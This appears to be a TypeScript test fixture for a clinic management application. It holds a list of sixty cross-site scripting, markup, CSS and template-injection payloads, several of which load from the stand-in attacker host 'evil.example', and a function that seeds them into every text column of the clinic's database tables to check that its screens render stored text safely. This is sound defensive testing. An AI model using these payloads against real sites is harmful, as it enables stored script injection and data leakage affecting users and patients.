import type { Clinic, Product } from './product.ts';

/** The attacker's host, which the product must never call. */
export const EVIL = 'evil.example';

const RUN = 'window.pwned=1;alert(1)';
const CALL = `//${EVIL}/x`;

/** Sixty texts that do something where a screen treats them as markup, an address, a style or a template. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=${CALL}></sCrIpT>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https:${CALL}">`,
  `<img srcset="https:${CALL} 1x">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext></p><img src=x onerror=${RUN}></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="https:${CALL}"></iframe>`,
  `<object data="https:${CALL}"></object>`,
  `<embed src="https:${CALL}">`,
  `<base href="https:${CALL}/">`,
  `<meta http-equiv="refresh" content="0;url=https:${CALL}">`,
  `<link rel="stylesheet" href="https:${CALL}">`,
  `<link rel="prefetch" href="https:${CALL}">`,
  `<style>@import url(https:${CALL});</style>`,
  `<style>*{background:url(https:${CALL})}</style>`,
  `<div style="background:url(https:${CALL})">x</div>`,
  `<form action="https:${CALL}"><input name=q autofocus></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video poster="https:${CALL}"></video>`,
  `<audio src="https:${CALL}" autoplay></audio>`,
  `<source src="https:${CALL}">`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="  java\tscript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `＜script＞${RUN}＜/script＞`,
  `javascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `https:${CALL}" onmouseover="${RUN}`,
  `[x](javascript:${RUN})`,
  `![x](https:${CALL})`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${window.pwned=1}',
  `<%= ${RUN} %>`,
  `red;}*{background:url(https:${CALL})}`,
  `expression(${RUN});url(javascript:${RUN})`,
];

const ALL = PAYLOADS.join('\n');
/** The content that a creative may show: pictures, film and links from anywhere, frames from a known player only. */
export const SHOWN = {
  image: 'https://pictures.example/',
  video: 'https://film.example/',
  iframe: 'https://www.youtube-nocookie.com/embed/',
  link: 'https://links.example/',
} as const;

/**
 * Puts each payload into every text of its own row of every table that the clinic's screens show; the newest row of each
 * holds them all. Bypasses the product's checks: a row may be older than they are. Returns
 * the patient whose rows hold them all.
 */
export async function insertPayloads(
  { runSql }: Pick<Product, 'runSql'>,
  { clinicId, today }: Clinic,
): Promise<{ patientId: string }> {
  const rows = [...PAYLOADS, ALL];
  const insert = (text: string) =>
    runSql(text, [clinicId, rows, ...(text.includes('$3') ? [today] : [])]);
  const each = 'from unnest($2::text[]) with ordinality as p(t, n)';
  const number = "'55500' || lpad(n::text, 5, '0')";
  await insert(`update users set name = ($2::text[])[61], clinic_name = ($2::text[])[5],
    clinic_address = ($2::text[])[1] || ($2::text[])[13], google_sheet_id = ($2::text[])[61], profile_types = $2::text[]
    where id = $1::uuid`);
  await insert(
    `insert into users (name, clinic_name, profile_types) select t, t, array[t] ${each} where $1::uuid is not null`,
  );
  await insert(
    `update logins set name = ($2::text[])[61] where clinic_id = $1::uuid and $2::text[] is not null`,
  );
  await insert(
    `insert into doctors (user_id, name, contact_number) select $1::uuid, t, ${number} ${each}`,
  );
  await insert(`insert into appointments (user_id, doctor_name, doctor_contact, patient_name, appointment_date,
    appointment_time, contact_number, patient_address, notes, created_at)
    select $1::uuid, t, t, t, $3::date + (n % 4 = 0)::int, '10:00', ${number}, t, t, now() + n * interval '1 ms' ${each}`);
  await insert(`insert into reviews (user_id, patient_name, contact_number, appointment_date, treatment, notes,
    ai_review_text, ai_review_writer, created_at)
    select $1::uuid, t, ${number}, $3::date, t, t, t, t, now() + n * interval '1 ms' ${each}`);
  await insert(`insert into sequence_templates (user_id, profile_type, message_template, sequence_days, sequence_order)
    select $1::uuid, t, t, 3, n ${each}`);
  await insert(`insert into sequence_messages (user_id, patient_name, whatsapp_number, scheduled_date, message_content,
    status, created_at)
    select $1::uuid, t, ${number}, $3::date, left(t, 4096), case when n % 2 = 0 then 'failed' else 'pending' end,
    now() + n * interval '1 ms' ${each}`);
  await insert(`insert into send_attempts (user_id, message_id, dedupe_key, channel, state, body_sha256, to_last_four,
    requested_by_name, finished_at, detail)
    select user_id, id, 'message:' || id, 'direct', 'rejected', repeat('a', 64), '0001', left(patient_name, 200), now(),
    left(patient_name, 300) from sequence_messages where user_id = $1::uuid and status = 'failed' and $2::text[] is not null`);
  await insert(`insert into report_requests (user_id, patient_name, patient_whatsapp_number, request_date, report_type,
    status, notes, created_at)
    select $1::uuid, t, ${number}, $3::date, t, translate(left(t, 40), chr(9) || chr(10), '  '), t, now() + n * interval '1 ms' ${each}`);
  await insert(`insert into feedback (user_id, form_id, words, wants_answer, language)
    select $1::uuid, gen_random_uuid(), left(t, 2000), n % 2 = 0, 'en' ${each} where t <> ''`);
  const patientId = crypto.randomUUID();
  await runSql(
    `insert into patients (user_id, id, name, number, note, source)
      select $1::uuid, case when n = cardinality($2::text[]) then $3::uuid else gen_random_uuid() end, left(t, 120),
      ${number}, left(t, 200), 'typed' ${each}`,
    [clinicId, rows, patientId],
  );
  for (const [table, column] of [
    ['appointments', 'contact_number'],
    ['reviews', 'contact_number'],
    ['sequence_messages', 'whatsapp_number'],
    ['report_requests', 'patient_whatsapp_number'],
  ]) {
    await runSql(
      `update ${table} as r set patient_id = p.id from patients p
        where r.user_id = $1::uuid and p.user_id = r.user_id and p.number = r.${column}`,
      [clinicId],
    );
  }
  await insert(
    `insert into do_not_contact (user_id, number, reason) select $1, '55511' || lpad(n::text, 5, '0'), t ${each}`,
  );
  await insert(
    `insert into creative_categories (name) select t ${each} where $1::uuid is not null`,
  );
  await runSql(
    `insert into creatives (user_id, title, description, content_type, content, thumbnail_url, year, month_number, created_at)
      select $1::uuid, t, t, kind, address || $3 || n, case when kind = 'iframe' then null else $4 || n end, 2028, 1,
      now() + n * interval '1 ms'
      from unnest($2::text[]) with ordinality as p(t, n)
      cross join lateral (select ($5::text[])[1 + n % 4] as kind, ($6::text[])[1 + n % 4] as address) c`,
    [
      clinicId,
      rows,
      encodeURIComponent(PAYLOADS[0] ?? '').replace(/[()]/g, ''),
      SHOWN.image,
      Object.keys(SHOWN),
      Object.values(SHOWN),
    ],
  );
  return { patientId };
}
